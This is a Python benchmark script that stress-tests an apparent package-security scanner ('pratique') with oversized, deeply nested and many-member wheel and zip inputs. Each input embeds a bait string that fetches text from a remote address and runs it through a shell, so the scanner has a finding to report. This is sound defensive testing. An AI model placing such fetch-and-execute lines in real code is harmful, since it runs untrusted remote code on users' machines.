"""Inputs made to take all time or memory: what they cost, and that each ends with a finding or a gap.

    python bench/bounds.py [NAME…]

Every input is inspected by a fresh process with an address space of 4 GiB. It fails when one takes longer than its bound, when the
process dies, or when the report is clean without a word about what was not seen. `tests/test_bounds.py` has small forms.
"""

from __future__ import annotations

import io
import json
import os
import resource
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

MAX_SECONDS = 120  # CPU, for one input
MAX_MIB = 1024
ADDRESS_SPACE_BYTES = 4 << 30
LEVELS = 100_000
SINK = "import os, subprocess, requests, base64\nsubprocess.run(requests.get('http://203.0.113.9/').text, shell=True)\n"


def source(text: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / "drill-1-py3-none-any.whl"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as wheel:
            wheel.writestr("drill/__init__.py", text)
            wheel.writestr("drill-1.dist-info/METADATA", "Name: drill\nVersion: 1\n")
        return path

    return build


def plain(size: int, line: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / "drill.py"
        with open(path, "wb") as file:
            for _ in range(size // len(line)):
                file.write(line)
        return path

    return build


def members(count: int, name: str, text: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / "drill-1-py3-none-any.whl"
        with zipfile.ZipFile(path, "w") as wheel:
            for at in range(count):
                wheel.writestr(name.format(at), text)
            wheel.writestr("drill/last.py", SINK)
        return path

    return build


def nested(levels: int) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        data = SINK.encode()
        for level in range(levels):
            held = io.BytesIO()
            with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("drill.py" if level == 0 else "drill.zip", data)
            data = held.getvalue()
        path = folder / "drill.zip"
        path.write_bytes(data)
        return path

    return build


def indented(levels: int) -> str:
    return SINK + "".join(f"{' ' * at}if x:\n" for at in range(levels)) + " " * levels + "exec(x)\n"


INPUTS: dict[str, Callable[[Path], Path]] = {
    "100 MB of source": plain(100 << 20, b"import os; os.system('true')\n"),
    "100 MB on a line": plain(100 << 20, b"f(x);"),
    "8 MB on a line": source(SINK + "x = [" + "exec(a)," * 980_000 + "]\n"),
    "8 MB of one word": source(SINK + "\u00e9" * 3_900_000 + "\n"),
    "8 MB of imports": source(SINK + "from os import " * 520_000 + "\n"),
    "8 MB of calls": source(SINK + "f(exec)\n" * 980_000),
    "8 MB of functions": source(SINK + "def f(x): return f(x)\n" * 340_000),
    "8 MB of assignments": source(SINK + "x = x + f(x)\n" * 600_000 + "exec(x)\n"),
    "parentheses": source(SINK + "exec(" + "(" * LEVELS + "1" + ")" * LEVELS + ")\n"),
    "open parentheses": source(SINK + "(" * LEVELS),
    "brackets": source(SINK + "exec(" + "[" * LEVELS + "]" * LEVELS + ")\n"),
    "braces": source(SINK + "exec(" + "{1:" * LEVELS + "1" + "}" * LEVELS + ")\n"),
    "calls": source(SINK + "exec(" * LEVELS + "1" + ")" * LEVELS + "\n"),
    "chained calls": source(SINK + "exec" + "()" * LEVELS + "\n"),
    "attributes": source(SINK + "exec(x" + ".a" * LEVELS + ")\n"),
    "subscripts": source(SINK + "exec(x" + "[0]" * LEVELS + ")\n"),
    "operators": source(SINK + "exec('a'" + "+'a'" * LEVELS + ")\n"),
    "negations": source(SINK + "exec(" + "not " * LEVELS + "x)\n"),
    "lambdas": source(SINK + "exec(" + "lambda: " * LEVELS + "x)\n"),
    "f-strings": source(SINK + "exec(" + "f'{" * LEVELS + "x" + "}'" * LEVELS + ")\n"),
    "conditions": source(indented(3900)),
    "functions": source(SINK + "".join(f"{' ' * at}def f{at}():\n" for at in range(3500)) + " " * 3500 + "exec(x)\n"),
    "classes": source(SINK + "".join(f"{' ' * at}class C{at}:\n" for at in range(3500)) + " " * 3500 + "exec(x)\n"),
    "branches": source(SINK + "if x: pass\n" + "elif exec(x): pass\n" * LEVELS),
    "decorators": source(SINK + "@exec\n" * LEVELS + "def f(): pass\n"),
    "50 000 modules": members(50_000, "drill/m{}.py", "import os\n"),
    "50 000 modules of interest": members(
        50_000, "drill/m{}.py", "from .m1 import f\nimport os\ndef g(x): os.system(f(x))\n"
    ),
    "1 000 000 members": members(1_000_000, "drill/{}.txt", "x"),
    "100 000 packages of torch": members(100_000, "d{}/.data/extern_modules", "x"),
    "50 zips in each other": nested(50),
}


def inspected(path: Path, environment: dict[str, str]) -> tuple[str, float, float]:
    """What is said of a file, with CPU-seconds and MiB."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE_BYTES, ADDRESS_SPACE_BYTES))

    command = [sys.executable, "-m", "pratique", "inspect", "--no-cache", "--format", "json", str(path)]
    with tempfile.TemporaryFile() as out:
        child = subprocess.Popen(command, stdout=out, stderr=subprocess.DEVNULL, env=environment, preexec_fn=limit)  # noqa: PLW1509
        started = time.monotonic()
        while (ended := os.wait4(child.pid, os.WNOHANG))[0] == 0:
            if time.monotonic() - started > 8 * MAX_SECONDS:
                child.kill()
            time.sleep(0.02)
        _, status, usage = ended
        child.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        text = out.read().decode("utf-8", "replace")
    return judged(text, child.returncode), usage.ru_utime + usage.ru_stime, usage.ru_maxrss / 1024


def judged(text: str, code: int) -> str:
    """`ok` and the counts of findings and gaps, or what is wrong."""
    try:
        document = json.loads(text)
    except ValueError:
        return f"FAILED: exit {code}, no report"
    findings, gaps = document["findings"], document["coverage"]["gaps"]
    crashed = [gap["reason"] for gap in gaps if gap["kind"] == "rule-crashed" or "Error" in gap["reason"]]
    if crashed:
        return f"FAILED: {crashed[0]}"[:150]
    return f"ok: {len(findings)} findings, {len(gaps)} gaps" if findings or gaps else "FAILED: silent"


def main() -> None:
    wrong = 0
    for name, build in INPUTS.items():
        if len(sys.argv) > 1 and name not in sys.argv[1:]:
            continue
        with tempfile.TemporaryDirectory() as temporary:
            said, seconds, mebibytes = inspected(build(Path(temporary)), dict(os.environ))
        if said.startswith("ok") and (seconds > MAX_SECONDS or mebibytes > MAX_MIB):
            said = f"FAILED: too much; {said}"
        wrong += said.startswith("FAILED")
        print(f"{name:<28} {seconds:7.2f} CPU-s {mebibytes:6.0f} MiB  {said}", flush=True)
    sys.exit(wrong > 0)


if __name__ == "__main__":
    main()
